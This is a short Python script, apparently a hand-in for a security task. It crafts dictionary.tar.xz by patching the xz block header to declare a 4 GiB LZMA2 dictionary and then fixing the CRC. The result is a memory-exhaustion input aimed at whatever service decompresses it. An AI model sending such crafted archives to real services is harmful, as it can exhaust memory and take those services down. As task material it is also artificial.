"""Writes the hand-in into the folder that is named; prints its name."""

from __future__ import annotations

import io
import lzma
import struct
import sys
import tarfile
import zlib

made = io.BytesIO()
with tarfile.open(fileobj=made, mode="w") as out:
    info = tarfile.TarInfo("server.py")
    info.size = 1
    out.addfile(info, io.BytesIO(b"x"))
data = bytearray(lzma.compress(made.getvalue()))
# The block's header: its size, flags, filter 0x21 and the dictionary's size.
size = 4 * (data[12] + 1)
assert data[14:16] == b"\x21\x01"
data[16] = 40  # 4 GiB
data[12 + size - 4 : 12 + size] = struct.pack("<L", zlib.crc32(data[12 : 8 + size]))
with open(sys.argv[1] + "/dictionary.tar.xz", "wb") as file:
    file.write(data)
print("dictionary.tar.xz")
